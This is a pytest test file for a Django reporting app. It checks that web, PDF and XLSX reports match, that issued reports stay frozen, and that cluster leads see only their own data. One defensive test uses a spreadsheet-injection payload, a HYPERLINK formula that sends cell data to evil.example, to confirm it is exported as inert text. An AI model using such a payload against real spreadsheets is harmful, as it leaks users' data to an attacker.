"""Web page, PDF and XLSX carry the same figures, never change once issued, and a cluster
lead's copy holds their own cluster only, with no money."""

import datetime
import hashlib
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

import reports.gather as gather
from clusters.models import ProgressUpdate
from programme.models import Milestone
from reports import render, services
from tests.conftest import client_for

from .helpers import html_rows, main_content, pdf_text, xlsx_rows, xlsx_text


def _money_provider(ctx):
    """Stands in for the timesheets area: spend (money) programme-wide and per cluster."""
    return {
        "programme": [
            gather.block(
                "spend",
                "Spend against caps",
                money=True,
                tables=[
                    gather.table(
                        "Spend against the 2024-25 cap",
                        [gather.col("Cap"), gather.col("Spent", "money")],
                        [["2024-25", 123456.0]],
                    )
                ],
            )
        ],
        "clusters": {
            c["pk"]: [
                gather.block(
                    "support",
                    "Support delivered",
                    tables=[
                        gather.table(
                            "Days of support",
                            [gather.col("Requirement"), gather.col("Days", "number")],
                            [["R1", 3.5]],
                        )
                    ],
                ),
                gather.block(
                    "cost",
                    "Cost of support",
                    money=True,
                    tables=[
                        gather.table(
                            "Cost",
                            [gather.col("Item"), gather.col("Cost", "money")],
                            [["Days", 2800.0]],
                        )
                    ],
                ),
            ]
            for c in ctx["clusters"]
        },
    }


@pytest.fixture(autouse=True)
def with_money(monkeypatch):
    providers = [
        (k, t, _money_provider if k == "support" else f) for k, t, f in gather.MONTHLY_PROVIDERS
    ]
    monkeypatch.setattr(gather, "MONTHLY_PROVIDERS", providers)


def _formats(client, report):
    web = client.get(reverse("reports:detail", args=[report.pk])).content.decode()
    pdf = client.get(reverse("reports:pdf", args=[report.pk])).content
    xlsx = client.get(reverse("reports:xlsx", args=[report.pk])).content
    return web, pdf, xlsx


def test_web_pdf_and_xlsx_carry_identical_figures(pm, issued):
    web, pdf, xlsx = _formats(client_for(pm), issued)

    web_rows = html_rows(main_content(web), figures_only=True)
    sheet_rows = xlsx_rows(xlsx)
    assert sorted(map(tuple, web_rows)) == sorted(map(tuple, sheet_rows))
    assert ["2024-25", "£123,456"] in sheet_rows
    assert ["Green", "Amber", "Improved"] in html_rows(main_content(web))
    # the PDF is rendered from the same template: every figure on the page is in its text
    text = "".join(pdf_text(pdf).split())
    figures = {c for r in web_rows for c in r if c[:1].isdigit() or c[:1] == "£"}
    assert len(figures) > 12
    assert figures and all("".join(f.split()) in text for f in figures)
    assert "Page1of" in text  # page numbers from the @page counters


def test_the_pdf_has_a_contents_list_with_page_numbers(pm, issued):
    html = render.render_pdf_html(issued, issued.snapshot)
    assert "target-counter(attr(href), page)" in html and "size: A4" in html
    assert '<a class="govuk-link" href="#cluster-north-east">North East</a>' in html


def test_an_issued_report_does_not_change_when_the_data_does(pm, dfe, issued):
    before = {role: _formats(client_for(u), issued) for role, u in (("pm", pm), ("dfe", dfe))}
    ProgressUpdate.objects.filter(cluster__slug="north-east", month=issued.period_start).update(
        rating="red", progress="Everything changed"
    )
    Milestone.objects.filter(title="Programme go live").update(title="Renamed milestone")
    after = {role: _formats(client_for(u), issued) for role, u in (("pm", pm), ("dfe", dfe))}

    for role in before:
        web0, pdf0, xlsx0 = before[role]
        web1, pdf1, xlsx1 = after[role]
        assert main_content(web0) == main_content(web1)
        assert pdf_text(pdf0) == pdf_text(pdf1)
        assert xlsx_rows(xlsx0) == xlsx_rows(xlsx1) and xlsx_text(xlsx0) == xlsx_text(xlsx1)
        assert "Everything changed" not in web1 and "Programme go live" in web1
    assert "Data as at" in after["pm"][0]


def test_a_draft_gathered_again_shows_the_changed_data(pm, build, programme_data):
    report = build(user=pm)
    ProgressUpdate.objects.filter(cluster__slug="north-east", month=report.period_start).update(
        progress="Everything changed"
    )
    report = build(user=pm)
    assert (
        "Everything changed"
        in client_for(pm).get(reverse("reports:detail", args=[report.pk])).content.decode()
    )


def test_a_cluster_lead_sees_only_their_cluster_and_no_money(lead, pm, issued):
    web, pdf, xlsx = _formats(client_for(lead), issued)
    full_web = client_for(pm).get(reverse("reports:detail", args=[issued.pk])).content.decode()
    assert "Foster4" in full_web and "£" in full_web  # the full report has both

    for text in (web, pdf_text(pdf), xlsx_text(xlsx)):
        assert "North East" in text
        assert "Foster4" not in text
        assert "Warrington" not in text
        assert "£" not in text
        assert "Programme milestones" not in text
        assert "May went well" not in text  # the programme-wide summary
    assert "Days of support" in web  # their support, without its cost
    assert "Cost of support" not in web


def test_a_chart_with_no_data_shows_an_empty_state(contract, north_east, pm, build):
    report = build(user=pm, day=datetime.date(2024, 5, 1))
    ne = next(s for s in report.snapshot["sections"] if s["key"] == "cluster-north-east")
    chart = next(b["chart"] for b in ne["blocks"] if b["chart"])
    assert "No data for this period" in chart["svg"]
    assert client_for(pm).get(reverse("reports:pdf", args=[report.pk])).status_code == 200


def test_formula_like_text_in_an_issued_report_is_text_in_its_xlsx(pm, build, programme_data):
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    Milestone.objects.filter(title="Programme go live").update(title=hostile)
    report = build(user=pm)
    summary = "+44 7700 900000 rang the hub\n@SUM(A1:A9)\n-2 hubs live"
    services.save_summary(report_id=report.pk, summary=summary, user=pm)
    issued = services.issue_report(report_id=report.pk, user=pm)

    content = client_for(pm).get(reverse("reports:xlsx", args=[issued.pk])).content

    book = load_workbook(io.BytesIO(content))
    cells = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no live formula
    texts = {c.value for c in cells}
    # shown as the text it is, behind the apostrophe a spreadsheet reads as "this is text"
    assert {"'+44 7700 900000 rang the hub", "'@SUM(A1:A9)", "'-2 hubs live"} <= texts
    assert any(str(t).startswith("'" + hostile) for t in texts)


def test_every_download_of_an_issued_xlsx_is_the_same_file(pm, dfe, issued, time_machine):
    url = reverse("reports:xlsx", args=[issued.pk])
    first = client_for(pm).get(url).content
    time_machine.move_to(timezone.now() + datetime.timedelta(days=3, seconds=7))
    second = client_for(dfe).get(url).content

    assert hashlib.sha256(first).hexdigest() == hashlib.sha256(second).hexdigest()
    book = load_workbook(io.BytesIO(first))
    assert book.properties.modified == issued.issued_at.astimezone(datetime.UTC).replace(
        tzinfo=None, microsecond=0
    )
